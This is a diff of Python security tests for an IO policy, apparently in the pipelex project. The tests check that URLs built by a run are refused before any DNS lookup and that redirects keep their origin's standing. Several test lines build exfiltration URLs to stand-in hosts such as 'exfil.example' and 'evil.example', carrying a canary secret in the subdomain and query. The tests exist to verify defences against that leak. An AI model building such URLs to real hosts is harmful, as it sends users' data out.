@@ -31,7 +31,10 @@ from pipelex.io.policy import (
 from pipelex.storage.local import LocalStorage
 from tests.security.canary import SECRET, Canary, canary_server
 
-OPEN = IOPolicy(allow_local_files=True, allow_urls=True)  # the CLI's default shape: internal stays refused
+# the CLI's default shape, every URL read as one its caller named (these tests are about addresses, schemes and
+# reads): internal stays refused. The rule on URLs a run builds is tested with CLI below.
+OPEN = IOPolicy(allow_local_files=True, allow_urls=True, allow_built_urls=True)
+CLI = IOPolicy(allow_local_files=True, allow_urls=True)  # the CLI's default: only the URLs its caller named
 CLOSED = IOPolicy()
 
 
@@ -532,3 +535,54 @@ def test_https_goes_to_the_checked_address_with_the_original_server_name(
         listener.close()
     assert names == [host]
     assert "cannot be read" in str(caught.value) and "SSL" not in str(caught.value)
+
+
+# ---------------------------------------------------------------------------------------------------- built URLs
+def test_a_url_the_run_built_is_refused_before_any_lookup(monkeypatch: Any) -> None:
+    """On the CLI a bundle may read the user's files and fetch URLs: it could put a document's text in a URL it
+    builds, and the fetch (or only its DNS lookup) would carry it out. Only the URLs the caller named (its inputs)
+    are fetched now; a built one is refused before its host is even resolved."""
+    looked_up: list[object] = []
+    monkeypatch.setattr(socket, "getaddrinfo", lambda *args, **kwargs: looked_up.append(args) or [])
+    leak = f"https://{SECRET.lower()}.exfil.example/?page={SECRET}"
+    with pytest.raises(ReadRefusedError, match="only the URLs its caller named") as caught:
+        read(leak, CLI)
+    assert caught.value.reason == RefusalReason.BUILT_URL.value
+    assert "allow_built_urls" in str(caught.value)
+    assert looked_up == []
+
+
+def test_the_urls_a_caller_named_are_fetched_and_only_those() -> None:
+    named = CLI.naming(["https://example.com/report.pdf"])
+    assert named.refusal("https://example.com/report.pdf") is None
+    for built in (
+        "https://example.com/report.pdf?q=secret",
+        "https://example.com/",
+        "https://evil.example/x",
+    ):
+        refusal = named.refusal(built)
+        assert refusal is not None and refusal.reason is RefusalReason.BUILT_URL, built
+    # a policy that fetches no URL, or every URL, names none (nothing travels with the run for nothing)
+    assert CLOSED.naming(["https://example.com/a"]) is CLOSED
+    assert OPEN.naming(["https://example.com/a"]) is OPEN
+    # what a provider returns (a generated image) is not built by the bundle
+    assert (
+        CLI.for_provider_output("https://api.example.com/v1").refusal("https://cdn.example.net/i.png") is None
+    )
+
+
+def test_a_redirect_keeps_the_standing_of_the_url_it_came_from() -> None:
+    """A named URL's redirects are followed (checked as usual); a built URL to a trusted origin does not become a
+    way out through a redirect of that origin to another host."""
+    with canary_server() as first, canary_server() as second:
+        internal = CLI.model_copy(
+            update={"allow_internal_urls": True}
+        )  # loopback stands for public hosts here
+        hop = f"{first.url}/to?url={second.url}/doc.pdf"
+        data, _ = read(hop, internal.naming([hop]))
+        assert data.startswith(b"%PDF") and len(second.requests) == 1
+        trusted = internal.model_copy(update={"trusted_origins": (first.url,)})
+        built = f"{first.url}/to?url={second.url}/doc.pdf%3Fleak%3D{SECRET}"
+        with pytest.raises(ReadRefusedError, match="only the URLs its caller named"):
+            read(built, trusted)
+        assert len(second.requests) == 1  # the built hop reached the trusted origin only
